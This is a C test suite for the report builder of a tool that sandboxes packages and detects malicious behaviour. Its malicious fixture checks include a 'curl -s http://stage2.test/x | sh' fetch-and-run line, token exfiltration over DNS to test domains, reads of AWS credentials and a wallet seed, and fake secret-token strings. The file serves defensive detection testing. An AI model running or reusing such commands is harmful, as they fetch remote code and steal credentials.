/* Tests for runner/report*.c: argument checks, the folding of events into
 * processes/files/network/honeytokens, caps, the terminal line formats of
 * docs/report-v1.md (every line of every fixture matches one), colour
 * adding nothing but SGR codes, escaping in every output (terminal, HTML,
 * SARIF) and that token values never reach a report. The schema and the
 * page in a browser are checked by tests/report/schema_test.sh and
 * html_test.sh. */
#define _GNU_SOURCE
#include "report.h"
#include "report_int.h"

#include <fcntl.h>
#include <regex.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "check.h"

static const char *const fixtures[] = {"clean", "malicious", "error", "sparse"};

/* Values planted in the fixtures' records: never in any output. */
static const char *const token_values[] = {
    "AKIAQ7XK2M4ZP5R3W6YB", "wJalrXUt/nFEMI+K7MDENG/bPxRfiCYz+9Kq3hT2",
    "ghp_R8fK2pLm9QzX4vT7bN1cW5yH3jD6sA0eU2iO",
    "npm_T4kW9xQ2mZ7pL1vR8nB3cY6hJ5dF0gS2aE4u"};

static json_t *load_fixture(const char *name, json_t **rep) {
  char path[4096];
  snprintf(path, sizeof(path), "%s/%s.json", PKGTRAP_REPORT_FIXTURES, name);
  json_error_t je;
  json_t *fx = json_load_file(path, 0, &je);
  if (fx == NULL) {
    fprintf(stderr, "%s:%d: %s\n", path, je.line, je.text);
    abort();
  }
  pt_err *err = NULL;
  *rep = pt_report_build(json_object_get(fx, "record"),
                         json_object_get(fx, "findings"),
                         (int)json_integer_value(json_object_get(fx, "score")),
                         json_string_value(json_object_get(fx, "verdict")), &err);
  CHECK(*rep != NULL, "%s: %s", name, err && err->msg ? err->msg : "?");
  pt_err_free(err);
  return fx;
}

static char *text_of(json_t *rep, bool color) {
  char *buf = NULL;
  size_t len = 0;
  FILE *f = open_memstream(&buf, &len);
  CHECK(pt_report_print_text(f, rep, color) == 0, "print_text");
  fclose(f);
  return buf;
}

static char *file_of(const char *kind, json_t *rep) {
  char path[] = "/tmp/test_report.XXXXXX";
  int fd = mkstemp(path);
  if (fd < 0)
    abort();
  close(fd);
  pt_err *err = NULL;
  int rc = strcmp(kind, "html") == 0    ? pt_report_write_html(path, rep, &err)
           : strcmp(kind, "sarif") == 0 ? pt_report_write_sarif(path, rep, &err)
                                        : pt_report_write_json(path, rep, &err);
  CHECK(rc == 0, "write %s: %s", kind, err && err->msg ? err->msg : "?");
  pt_err_free(err);
  char *data = NULL;
  size_t len = 0;
  if (pt_read_file_at(AT_FDCWD, path, 64u << 20, &data, &len, NULL) < 0)
    data = strdup("");
  unlink(path);
  return data;
}

/* ---- argument checks ----------------------------------------------------- */

static void test_arguments(void) {
  static const struct {
    const char *record, *findings, *verdict;
    int score;
    bool ok;
  } cases[] = {
      {"{}", "[]", "clean", 0, true},
      {NULL, NULL, "error", 0, true},
      {"{}", "[]", "malicious", 100, true},
      {"{}", "[]", "evil", 50, false},
      {"{}", "[]", NULL, 50, false},
      {"{}", "[]", "clean", -1, false},
      {"{}", "[]", "clean", 101, false},
      {"[]", "[]", "clean", 0, false},
      {"{}", "{}", "clean", 0, false},
  };
  for (size_t i = 0; i < PT_ARRAY_LEN(cases); i++) {
    json_t *r = cases[i].record ? json_loads(cases[i].record, 0, NULL) : NULL;
    json_t *f = cases[i].findings ? json_loads(cases[i].findings, 0, NULL) : NULL;
    pt_err *err = NULL;
    json_t *rep = pt_report_build(r, f, cases[i].score, cases[i].verdict, &err);
    CHECK((rep != NULL) == cases[i].ok, "case %zu", i);
    CHECK(cases[i].ok || (err && err->msg), "case %zu: no message", i);
    if (rep) {
      /* Even from nothing, every contract field is there. */
      static const char *const keys[] = {"schema", "package", "verdict", "score",
                                         "error", "phases", "findings", "processes",
                                         "files", "network", "honeytokens"};
      for (size_t k = 0; k < PT_ARRAY_LEN(keys); k++)
        CHECK(json_object_get(rep, keys[k]) != NULL, "case %zu: no %s", i, keys[k]);
    }
    json_decref(rep);
    json_decref(r);
    json_decref(f);
    pt_err_free(err);
  }
}

/* ---- terminal escaping ------------------------------------------------------ */

static void test_term_escape(void) {
  static const struct {
    const char *in, *out;
  } cases[] = {
      {"plain text", "plain text"},
      {"\x1b[31mred", "\\x1b[31mred"},
      {"bell\a tab\t nl\n cr\r", "bell\\x07 tab\\x09 nl\\x0a cr\\x0d"},
      {"del\x7f", "del\\x7f"},
      {"caf\xc3\xa9", "caf\xc3\xa9"},               /* é kept */
      {"c1 \xc2\x9b" "31m", "c1 \\x9b31m"},        /* U+009B CSI */
      {"rlo \xe2\x80\xae" "exe", "rlo \\u{202e}exe"},
      {"zw \xe2\x80\x8b" "x", "zw \\u{200b}x"},
      {"bom \xef\xbb\xbf", "bom \\u{feff}"},
      {"bad \xff\xfe", "bad \\xff\\xfe"},
      {"overlong \xc0\xaf", "overlong \\xc0\\xaf"},
      {"surrogate \xed\xa0\x80", "surrogate \\xed\\xa0\\x80"},
      {"cut \xe2\x80", "cut \\xe2\\x80"},
      {"emoji \xf0\x9f\x90\x8d", "emoji \xf0\x9f\x90\x8d"},
  };
  for (size_t i = 0; i < PT_ARRAY_LEN(cases); i++) {
    pt_buf b;
    pt_buf_init(&b, 4096);
    pt_report_term_escape(&b, cases[i].in, strlen(cases[i].in));
    CHECK(b.data && strcmp(b.data, cases[i].out) == 0, "case %zu: got \"%s\"", i,
          b.data ? b.data : "");
    pt_buf_free(&b);
  }
}

/* ---- line formats (docs/report-v1.md § Terminal) ------------------------------ */

static const char *const line_formats[] = {
    "^(CLEAN|SUSPICIOUS|MALICIOUS|ERROR)  [^ ]+ [^ ]+ \\([^ ]+\\)  score [0-9]+$",
    "^summary  findings [0-9]+  processes [0-9]+  files [0-9]+  network [0-9]+  "
    "honeytokens [0-9]+  leaks [0-9]+$",
    "^artifact  sha256 [^ ]+  .+$",
    "^error  .+$",
    "^problem  [^ ]+  .*$",
    "^finding  (info|low|medium|high|critical)  [^ ]+  [^ ]+  .*$",
    "^  evidence  [^ ]+  (\\+-?[0-9]+ms|-)  pid -?[0-9]+  [^ ]+ .*$",
    "^  evidence-omitted  [0-9]+$",
    "^phase  [^ ]+  [^ ]+  (exit -?[0-9]+|timeout|-)  ([0-9]+ms|-)  .+$",
    "^process  [^ ]+  ( *)-?[0-9]+  .+$",
    "^network  [^ ]+  (dns|tcp|udp|net|connect|send|bind|listen)  [^ ]+  [^ ]+  "
    "[^ ]+($|  .+$)",
    "^honeytoken  [^ ]+  (leak|read)  [^ ]+  [^ ]+  [^ ]+( -> [^ ]+)?$",
    "^$",
};

static void check_lines(const char *name, const char *text) {
  regex_t re[PT_ARRAY_LEN(line_formats)];
  for (size_t i = 0; i < PT_ARRAY_LEN(line_formats); i++)
    if (regcomp(&re[i], line_formats[i], REG_EXTENDED | REG_NOSUB) != 0)
      abort();
  char *copy = strdup(text), *save = NULL;
  size_t n = 0;
  /* strtok_r skips empty lines; they match "^$" anyway. */
  for (char *l = strtok_r(copy, "\n", &save); l; l = strtok_r(NULL, "\n", &save), n++) {
    size_t k = 0;
    while (k < PT_ARRAY_LEN(line_formats) && regexec(&re[k], l, 0, NULL, 0) != 0)
      k++;
    CHECK(k < PT_ARRAY_LEN(line_formats), "%s: line matches no format: \"%s\"", name, l);
    CHECK(n != 0 || k == 0, "%s: the first line is not the verdict: \"%s\"", name, l);
    for (const char *c = l; *c; c++)
      CHECK((unsigned char)*c >= 0x20 && *c != 0x7f, "%s: control byte in \"%s\"", name, l);
  }
  free(copy);
  for (size_t i = 0; i < PT_ARRAY_LEN(line_formats); i++)
    regfree(&re[i]);
}

/* Colour adds SGR sequences and nothing else. */
static void check_color(const char *name, const char *plain, const char *color) {
  pt_buf b;
  pt_buf_init(&b, strlen(color) + 1);
  for (const char *c = color; *c;) {
    if (*c == '\x1b') {
      const char *e = c + 1;
      CHECK(*e == '[', "%s: ESC not followed by [", name);
      e++;
      while ((*e >= '0' && *e <= '9') || *e == ';')
        e++;
      CHECK(*e == 'm', "%s: a non-SGR escape", name);
      c = *e ? e + 1 : e;
      continue;
    }
    pt_buf_append(&b, c++, 1);
  }
  CHECK(b.data && strcmp(b.data, plain) == 0, "%s: colour changes the text", name);
  CHECK(strchr(color, '\x1b') != NULL, "%s: no colour at all", name);
  pt_buf_free(&b);
}

static void check_no_tokens(const char *name, const char *what, const char *s) {
  for (size_t i = 0; i < PT_ARRAY_LEN(token_values); i++)
    CHECK(strstr(s, token_values[i]) == NULL, "%s: token value in the %s", name, what);
}

static void test_fixture_outputs(void) {
  for (size_t i = 0; i < PT_ARRAY_LEN(fixtures); i++) {
    json_t *rep = NULL;
    json_t *fx = load_fixture(fixtures[i], &rep);
    if (rep == NULL) {
      json_decref(fx);
      continue;
    }
    char *plain = text_of(rep, false), *color = text_of(rep, true);
    CHECK(strchr(plain, '\x1b') == NULL, "%s: ESC in plain text", fixtures[i]);
    check_lines(fixtures[i], plain);
    check_color(fixtures[i], plain, color);
    char *js = file_of("json", rep), *html = file_of("html", rep),
         *sarif = file_of("sarif", rep);
    check_no_tokens(fixtures[i], "text", plain);
    check_no_tokens(fixtures[i], "JSON", js);
    check_no_tokens(fixtures[i], "HTML", html);
    check_no_tokens(fixtures[i], "SARIF", sarif);
    /* The page: no script anywhere, no raw control or bidi character. */
    CHECK(strcasestr(html, "<script") == NULL, "%s: <script in the page", fixtures[i]);
    CHECK(strchr(html, '\x1b') == NULL, "%s: ESC in the page", fixtures[i]);
    CHECK(strstr(html, "\xe2\x80\xae") == NULL, "%s: U+202E in the page", fixtures[i]);
    CHECK(strstr(html, "Content-Security-Policy") != NULL, "%s: no CSP", fixtures[i]);
    /* The JSON file is the report itself. */
    json_t *back = json_loads(js, 0, NULL);
    CHECK(back && json_equal(back, rep), "%s: JSON file differs", fixtures[i]);
    json_decref(back);
    json_t *s = json_loads(sarif, 0, NULL);
    json_t *run = json_array_get(json_object_get(s, "runs"), 0);
    CHECK(json_array_size(json_object_get(run, "results")) ==
              json_array_size(json_object_get(rep, "findings")),
          "%s: SARIF results", fixtures[i]);
    json_decref(s);
    free(plain);
    free(color);
    free(js);
    free(html);
    free(sarif);
    json_decref(rep);
    json_decref(fx);
  }
}

/* ---- the malicious fixture in detail ----------------------------------------- */

static json_t *find(json_t *arr, const char *key, const char *val, long long pid) {
  size_t i;
  json_t *o;
  json_array_foreach(arr, i, o) {
    const char *s = pt_report_str(o, key);
    if (s && strcmp(s, val) == 0 && (pid < 0 || pt_report_int(o, "pid", -2) == pid))
      return o;
  }
  return NULL;
}

static void test_malicious(void) {
  json_t *rep = NULL;
  json_t *fx = load_fixture("malicious", &rep);
  if (rep == NULL) {
    json_decref(fx);
    return;
  }
  /* Findings, most severe first, stable among equals. */
  json_t *fs = json_object_get(rep, "findings");
  static const char *const order[] = {
      "honeytoken_leaked", "fileless_exec", "download_tool_spawned",
      "persistence_write", "command_hijack", "anti_analysis_sleep",
      "network_from_import", "dns_lookup"};
  CHECK(json_array_size(fs) == PT_ARRAY_LEN(order), "findings %zu", json_array_size(fs));
  for (size_t i = 0; i < PT_ARRAY_LEN(order); i++)
    CHECK(strcmp(pt_report_str(json_array_get(fs, i), "rule"), order[i]) == 0,
          "finding %zu is %s", i, pt_report_str(json_array_get(fs, i), "rule"));
  CHECK(pt_report_str(find(fs, "rule", "command_hijack", -1), "description") != NULL,
        "a finding's added field is lost");

  /* Processes: argv after exec, exit codes, one entry per (phase, pid). */
  json_t *ps = json_object_get(rep, "processes");
  CHECK(json_array_size(ps) == 9, "processes %zu", json_array_size(ps));
  size_t i;
  json_t *p, *p4250 = NULL, *p4262 = NULL;
  json_array_foreach(ps, i, p) {
    if (pt_report_int(p, "pid", 0) == 4250)
      p4250 = p;
    if (pt_report_int(p, "pid", 0) == 4262)
      p4262 = p;
  }
  CHECK(p4250 && strcmp(json_string_value(json_array_get(json_object_get(p4250, "argv"), 0)),
                        "/usr/bin/python3") == 0, "argv after exec");
  CHECK(p4262 && pt_report_int(p4262, "exit_code", 0) == 6, "exit code");
  CHECK(p4262 && pt_report_int(p4262, "ppid", 0) == 4261, "ppid");

  /* Files: the contract's ops only, dedup, details. */
  json_t *files = json_object_get(rep, "files");
  static const char *const ops[] = {"read", "write", "create", "delete",
                                    "exec", "chmod", "rename"};
  size_t bashrc = 0;
  json_array_foreach(files, i, p) {
    const char *op = pt_report_str(p, "op");
    bool ok = false;
    for (size_t k = 0; k < PT_ARRAY_LEN(ops); k++)
      ok |= op && strcmp(op, ops[k]) == 0;
    CHECK(ok, "file op %s", op ? op : "(null)");
    bashrc += strcmp(pt_report_str(p, "path"), "/home/mchen/.bashrc") == 0;
  }
  CHECK(bashrc == 1, "~/.bashrc writes not folded: %zu", bashrc);
  json_t *f = find(files, "path", "/home/mchen/.local/bin/git", -1);
  CHECK(f && strcmp(pt_report_str(f, "op"), "create") == 0 &&
            strcmp(pt_report_str(f, "detail"), "symlink") == 0, "symlink");
  f = find(files, "path", "/home/mchen/.local/bin/aws", -1);
  CHECK(f && strcmp(pt_report_str(f, "op"), "chmod") == 0 &&
            strcmp(pt_report_str(f, "detail"), "chown") == 0, "chown");
  f = find(files, "path", "/tmp/.x/payload", -1);
  CHECK(f && strcmp(pt_report_str(f, "op"), "create") == 0, "create");
  json_t *rn = NULL;
  json_array_foreach(files, i, p) if (strcmp(pt_report_str(p, "op"), "rename") == 0) rn = p;
  CHECK(rn && strcmp(pt_report_str(rn, "to"), "/home/mchen/.local/bin/aws") == 0, "rename to");
  CHECK(find(files, "path", "memfd:\\x00kworker", -1) != NULL, "memfd");
  f = find(files, "path", "/usr/bin/curl", 4262);
  CHECK(f && strcmp(pt_report_str(f, "op"), "exec") == 0, "exec file");

  /* Network: kinds in order, DNS and unix sockets filled in. */
  json_t *net = json_object_get(rep, "network");
  static const char *const kinds[] = {"dns",  "connect", "tcp",  "dns",
                                      "bind", "listen",  "send", "udp",
                                      "connect", "tcp",  "connect"};
  CHECK(json_array_size(net) == PT_ARRAY_LEN(kinds), "network %zu", json_array_size(net));
  for (i = 0; i < PT_ARRAY_LEN(kinds) && i < json_array_size(net); i++)
    CHECK(strcmp(pt_report_str(json_array_get(net, i), "kind"), kinds[i]) == 0,
          "network %zu is %s", i, pt_report_str(json_array_get(net, i), "kind"));
  json_t *dns = json_array_get(net, 0);
  CHECK(strcmp(pt_report_str(dns, "hostname"), "exfil.collector.test") == 0 &&
            pt_report_int(dns, "port", 0) == 53 &&
            strcmp(pt_report_str(dns, "answer"), "198.18.0.2") == 0, "dns entry");
  CHECK(strcmp(pt_report_str(json_array_get(net, 10), "proto"), "unix") == 0, "unix");
  json_t *http = json_array_get(net, 2);
  CHECK(pt_report_int(http, "bytes", 0) == 412 && json_is_object(json_object_get(http, "http")),
        "http entry");
  CHECK(strcmp(pt_report_str(json_array_get(net, 9), "sni"), "cdn.example.test") == 0, "sni");

  /* Honeytokens: reads per token of the file, the bait file, leaks; dedup. */
  json_t *hs = json_object_get(rep, "honeytokens");
  CHECK(json_array_size(hs) == 5, "honeytokens %zu", json_array_size(hs));
  static const struct {
    const char *token, *how;
    bool leak;
  } want[] = {{"AWS_ACCESS_KEY_ID", "read", false},
              {"AWS_SECRET_ACCESS_KEY", "read", false},
              {"~/.config/Exodus/exodus.wallet/seed.seco", "read", false},
              {"AWS_ACCESS_KEY_ID", "base64", true},
              {"GITHUB_TOKEN", "base32", true}};
  for (i = 0; i < PT_ARRAY_LEN(want) && i < json_array_size(hs); i++) {
    json_t *h = json_array_get(hs, i);
    CHECK(strcmp(pt_report_str(h, "token"), want[i].token) == 0 &&
              strcmp(pt_report_str(h, "how"), want[i].how) == 0 &&
              json_is_true(json_object_get(h, "leak")) == want[i].leak,
          "honeytoken %zu: %s %s", i, pt_report_str(h, "token"), pt_report_str(h, "how"));
  }
  CHECK(strcmp(pt_report_str(json_array_get(hs, 0), "where"), "~/.aws/credentials") == 0,
        "read where");

  /* Phases: start and event counts added. */
  json_t *ph = json_array_get(json_object_get(rep, "phases"), 3);
  CHECK(json_is_true(json_object_get(ph, "timed_out")) &&
            json_is_null(json_object_get(ph, "exit_code")) &&
            pt_report_int(ph, "start_ms", 0) == 6400 && pt_report_int(ph, "events", 0) == 4,
        "phase 4");

  /* Terminal: the escapes made visible, the tree indented. */
  char *plain = text_of(rep, false);
  CHECK(strstr(plain, "MALICIOUS  reqeusts-toolbelt 0.10.2 (pypi)  score 97\n") == plain,
        "verdict line");
  CHECK(strstr(plain, "'X: \\x1b[31mred\\x1b[0m \\u{202e}gnp.exe'") != NULL, "escapes");
  CHECK(strstr(plain, "\nprocess  install      4261  /bin/sh -c 'curl -s http://stage2.test/x | sh'\n"),
        "tree depth 2");
  CHECK(strstr(plain, "\nhoneytoken  install  leak  GITHUB_TOKEN  base32  dns -> "
                      "z2hwx1i4zksyuexttzlrexq0.dns.test\n"), "leak line");
  CHECK(strstr(plain, "\nphase  console_scripts:aws  entry-point  timeout  30000ms  aws --help\n"),
        "phase line");
  free(plain);

  /* HTML: the markup of a sample shown as text. */
  char *html = file_of("html", rep);
  CHECK(strstr(html, "&lt;script&gt;alert(1)&lt;/script&gt;") != NULL, "escaped excerpt");
  CHECK(strstr(html, "<tr class=\"leak\">") != NULL, "leak row");
  free(html);

  /* SARIF: levels, rule table, location, failed execution only on error. */
  pt_err *err = NULL;
  json_t *s = pt_report_sarif(rep, &err);
  json_t *run = json_array_get(json_object_get(s, "runs"), 0);
  json_t *res0 = json_array_get(json_object_get(run, "results"), 0);
  CHECK(strcmp(pt_report_str(res0, "level"), "error") == 0, "level");
  json_t *loc = json_object_get(json_object_get(json_array_get(json_object_get(res0, "locations"), 0),
                                                "physicalLocation"), "artifactLocation");
  CHECK(strcmp(pt_report_str(loc, "uri"),
               "corpus/artifacts/reqeusts-toolbelt-0.10.2.tar.gz") == 0, "uri");
  json_t *r7 = json_array_get(json_object_get(run, "results"), 7);
  CHECK(strcmp(pt_report_str(r7, "level"), "note") == 0, "low -> note");
  CHECK(json_is_true(json_object_get(json_array_get(json_object_get(run, "invocations"), 0),
                                     "executionSuccessful")), "executionSuccessful");
  json_decref(s);
  json_decref(rep);
  json_decref(fx);
}

static void test_error_fixture(void) {
  json_t *rep = NULL;
  json_t *fx = load_fixture("error", &rep);
  if (rep == NULL) {
    json_decref(fx);
    return;
  }
  CHECK(strcmp(pt_report_str(rep, "verdict"), "error") == 0, "verdict");
  CHECK(pt_report_str(rep, "error") != NULL, "error");
  CHECK(json_array_size(json_object_get(rep, "problems")) == 2, "problems");
  json_t *s = pt_report_sarif(rep, NULL);
  json_t *inv = json_array_get(json_object_get(json_array_get(json_object_get(s, "runs"), 0),
                                               "invocations"), 0);
  CHECK(json_is_false(json_object_get(inv, "executionSuccessful")), "executionSuccessful");
  CHECK(json_array_size(json_object_get(inv, "toolExecutionNotifications")) == 1, "notification");
  /* An absolute path with a space: a file:// URI, percent-encoded. */
  json_t *art = json_array_get(json_object_get(json_array_get(json_object_get(s, "runs"), 0),
                                               "artifacts"), 0);
  CHECK(strcmp(pt_report_str(json_object_get(art, "location"), "uri"),
               "file:///tmp/upload%20dir/evil-0.1-py3-none-any.whl") == 0, "uri %s",
        pt_report_str(json_object_get(art, "location"), "uri"));
  json_decref(s);
  char *plain = text_of(rep, false);
  CHECK(strstr(plain, "\nerror  archive rejected: ") != NULL, "error line");
  CHECK(strstr(plain, "\nproblem  archive_traversal  ") != NULL, "problem line");
  free(plain);
  json_decref(rep);
  json_decref(fx);
}

/* ---- caps, cycles, write errors ------------------------------------------------- */

static void test_caps(void) {
  json_t *events = json_array();
  for (int i = 0; i < 6000; i++)
    json_array_append_new(events, json_pack("{s:s,s:i,s:i,s:s,s:[s]}", "kind", "process",
                                            "pid", 100 + i, "ppid", 99 + i, "phase",
                                            "install", "argv", "sh"));
  /* A forged ppid cycle (pid 1 and 2 each other's parent). */
  json_array_append_new(events, json_pack("{s:s,s:i,s:i,s:s}", "kind", "process", "pid", 1,
                                          "ppid", 2, "phase", "x"));
  json_array_append_new(events, json_pack("{s:s,s:i,s:i,s:s}", "kind", "process", "pid", 2,
                                          "ppid", 1, "phase", "x"));
  json_t *ev = json_array();
  for (int i = 0; i < 120; i++)
    json_array_append_new(ev, json_pack("{s:s,s:i}", "kind", "exit", "code", i));
  json_t *record = json_pack("{s:o}", "events", events);
  json_t *findings = json_pack("[{s:s,s:s,s:s,s:o}]", "rule", "r", "severity", "high",
                               "summary", "s", "evidence", ev);
  pt_err *err = NULL;
  json_t *rep = pt_report_build(record, findings, 50, "suspicious", &err);
  CHECK(rep != NULL, "build");
  CHECK(json_array_size(json_object_get(rep, "processes")) == 5000, "process cap");
  CHECK(pt_report_int(json_object_get(rep, "omitted"), "processes", 0) == 1002, "omitted");
  json_t *f0 = json_array_get(json_object_get(rep, "findings"), 0);
  CHECK(json_array_size(json_object_get(f0, "evidence")) == 50 &&
            pt_report_int(f0, "evidence_omitted", 0) == 70, "evidence cap");
  char *plain = text_of(rep, false);
  CHECK(strstr(plain, "\n  evidence-omitted  70\n") != NULL, "evidence-omitted line");
  check_lines("caps", plain);
  free(plain);
  /* The cycle is printed, once each, and terminates. */
  json_t *cyc = json_pack("{s:[{s:s,s:i,s:i,s:s},{s:s,s:i,s:i,s:s}]}", "events", "kind",
                          "process", "pid", 1, "ppid", 2, "phase", "x", "kind", "process",
                          "pid", 2, "ppid", 1, "phase", "x");
  json_t *rc = pt_report_build(cyc, NULL, 0, "clean", &err);
  plain = text_of(rc, false);
  CHECK(strstr(plain, "process  x  1  ?\n") && strstr(plain, "process  x    2  ?\n"),
        "cycle: %s", plain);
  free(plain);
  char *html = file_of("html", rc);
  CHECK(strstr(html, "<span class=\"pid\">2</span>") != NULL, "cycle in HTML");
  free(html);
  CHECK(pt_report_write_json("/nonexistent-dir/x.json", rc, &err) < 0 && err &&
            strstr(err->msg, "/nonexistent-dir/x.json"), "write error");
  pt_err_free(err);
  json_decref(rc);
  json_decref(cyc);
  json_decref(rep);
  json_decref(record);
  json_decref(findings);
}

int main(void) {
  test_arguments();
  test_term_escape();
  test_fixture_outputs();
  test_malicious();
  test_error_fixture();
  test_caps();
  if (failures) {
    fprintf(stderr, "%d check(s) failed\n", failures);
    return 1;
  }
  printf("ok\n");
  return 0;
}
